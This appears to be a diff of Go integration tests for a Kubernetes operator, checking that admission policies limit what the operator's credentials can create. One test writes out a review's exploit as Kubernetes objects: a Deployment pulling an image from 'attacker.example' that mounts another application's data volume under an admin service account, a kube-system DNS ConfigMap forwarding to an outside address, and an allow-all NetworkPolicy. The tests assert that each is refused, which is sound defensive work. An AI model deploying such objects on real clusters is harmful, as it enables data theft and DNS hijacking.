@@ -9,6 +9,8 @@ import (
 	appsv1 "k8s.io/api/apps/v1"
 	authenticationv1 "k8s.io/api/authentication/v1"
 	corev1 "k8s.io/api/core/v1"
+	networkingv1 "k8s.io/api/networking/v1"
+	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/client-go/rest"
 	"k8s.io/client-go/tools/clientcmd"
@@ -45,6 +47,41 @@ func operatorClient(t *testing.T) client.Client {
 	return c
 }
 
+// operatorControlled is a controller reference to a cantus.dev object of kind and name,
+// as the operator puts on its children.
+func operatorControlled(kind, name string) []metav1.OwnerReference {
+	return []metav1.OwnerReference{{APIVersion: "cantus.dev/v1alpha1", Kind: kind, Name: name,
+		UID: "00000000-0000-0000-0000-000000000001", Controller: ptr.To(true)}}
+}
+
+// operatorShapedDeployment is shaped as the operator renders an adapter Deployment: the
+// restricted profile as 65532, no token, image running /adapter, controlled by the
+// SkillServer it is named after, its pods labelled as the operator's.
+func operatorShapedDeployment(ns, name, image string) *appsv1.Deployment {
+	selector := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name}
+	podLabels := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "cantus-operator"}
+	return &appsv1.Deployment{
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"},
+			OwnerReferences: operatorControlled("SkillServer", name)},
+		Spec: appsv1.DeploymentSpec{
+			Selector: &metav1.LabelSelector{MatchLabels: selector},
+			Template: corev1.PodTemplateSpec{
+				ObjectMeta: metav1.ObjectMeta{Labels: podLabels},
+				Spec: corev1.PodSpec{
+					AutomountServiceAccountToken: ptr.To(false),
+					SecurityContext: &corev1.PodSecurityContext{RunAsNonRoot: ptr.To(true), RunAsUser: ptr.To[int64](65532), RunAsGroup: ptr.To[int64](65532),
+						SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
+					Containers: []corev1.Container{{
+						Name: "adapter", Image: image, Command: []string{"/adapter"}, Args: []string{"serve"},
+						SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false),
+							Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}},
+					}},
+				},
+			},
+		},
+	}
+}
+
 // adapterImageAllowed is the first image the deployed policy allows as the adapter.
 func adapterImageAllowed(t *testing.T) string {
 	t.Helper()
@@ -67,28 +104,7 @@ func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
 	operator := operatorClient(t)
 	image := adapterImageAllowed(t)
 
-	deployment := func(name string) *appsv1.Deployment {
-		labels := map[string]string{"app.kubernetes.io/name": "cantus-adapter", "app.kubernetes.io/instance": name}
-		return &appsv1.Deployment{
-			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Labels: map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}},
-			Spec: appsv1.DeploymentSpec{
-				Selector: &metav1.LabelSelector{MatchLabels: labels},
-				Template: corev1.PodTemplateSpec{
-					ObjectMeta: metav1.ObjectMeta{Labels: labels},
-					Spec: corev1.PodSpec{
-						AutomountServiceAccountToken: ptr.To(false),
-						SecurityContext: &corev1.PodSecurityContext{RunAsNonRoot: ptr.To(true), RunAsUser: ptr.To[int64](65532),
-							SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
-						Containers: []corev1.Container{{
-							Name: "adapter", Image: image, Command: []string{"/adapter"}, Args: []string{"serve"},
-							SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false),
-								Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}},
-						}},
-					},
-				},
-			},
-		}
-	}
+	deployment := func(name string) *appsv1.Deployment { return operatorShapedDeployment(ns, name, image) }
 
 	if err := operator.Create(ctx, deployment("shape"), client.DryRunAll); err != nil {
 		t.Fatalf("the operator's own shape of Deployment is refused: %v", err)
@@ -141,5 +157,63 @@ func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
 	t.Cleanup(func() { _ = k8s.Delete(ctx, foreign) })
 	if err := operator.Delete(ctx, foreign.DeepCopy()); err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") {
 		t.Errorf("the operator deleted a kube-system ConfigMap that is not its own: %v", err)
+	}
+}
+
+// The review's exploit (issue 39, R11), tried on the node with the operator's own token:
+// in another application's namespace, a Deployment labelled as the operator's and shaped
+// like a stdio bridge, running an image of the attacker's as UID 999 under another
+// service account with that application's PersistentVolumeClaim mounted, is refused by
+// cantus-operator-restricted-workloads; a ConfigMap of a name no SkillServer gives (in
+// kube-system) and an allow-all NetworkPolicy are refused by cantus-operator-own-objects.
+func TestOperatorCredentialsCannotRunTheReviewsExploit(t *testing.T) {
+	ctx := testContext(t)
+	ns := restrictedNamespace(t, ctx) // the other application's namespace
+	operator := operatorClient(t)
+	image := adapterImageAllowed(t)
+
+	claim := &corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "data-postgres-0"},
+		Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
+			Resources: corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Mi")}}}}
+	if err := k8s.Create(ctx, claim); err != nil {
+		t.Fatal(err)
+	}
+	exploit := operatorShapedDeployment(ns, "x-bridge", image)
+	exploit.OwnerReferences = operatorControlled("RemoteToolImport", "x")
+	exploit.Spec.Template.Labels["app.kubernetes.io/component"] = "stdio-bridge"
+	pod := &exploit.Spec.Template.Spec
+	pod.SecurityContext.RunAsUser = ptr.To[int64](999)
+	pod.ServiceAccountName = "irsa-admin"
+	pod.Volumes = []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{
+		PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: claim.Name}}}}
+	pod.Containers[0].Name, pod.Containers[0].Image, pod.Containers[0].Command = "bridge", "attacker.example/x:1", []string{"/cantus/adapter", "bridge"}
+	pod.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "data", MountPath: "/data"}}
+	err := operator.Create(ctx, exploit)
+	if err == nil {
+		_ = k8s.Delete(ctx, exploit)
+		t.Fatal("the operator's credentials created the review's exploit Deployment")
+	}
+	if !strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'cantus-operator-restricted-workloads'") {
+		t.Errorf("the exploit was refused, but not by the admission policy: %v", err)
+	}
+	t.Logf("refused: %v", err)
+
+	own := map[string]string{"app.kubernetes.io/managed-by": "cantus-operator"}
+	for name, obj := range map[string]client.Object{
+		"a ConfigMap no SkillServer names": &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "coredns-custom",
+			Labels: own, OwnerReferences: operatorControlled("SkillServer", "coredns")}, Data: map[string]string{"evil.server": "forward . 203.0.113.53"}},
+		"an allow-all NetworkPolicy": &networkingv1.NetworkPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "allow-all",
+			Labels: own, OwnerReferences: operatorControlled("SkillServer", "allow-all")},
+			Spec: networkingv1.NetworkPolicySpec{PolicyTypes: []networkingv1.PolicyType{networkingv1.PolicyTypeIngress}, Ingress: []networkingv1.NetworkPolicyIngressRule{{}}}},
+	} {
+		err := operator.Create(ctx, obj)
+		if err == nil {
+			_ = k8s.Delete(ctx, obj)
+			t.Errorf("%s: the operator's credentials created it", name)
+			continue
+		}
+		if !strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'cantus-operator-own-objects'") {
+			t.Errorf("%s: refused, but not by the admission policy: %v", name, err)
+		}
 	}
 }
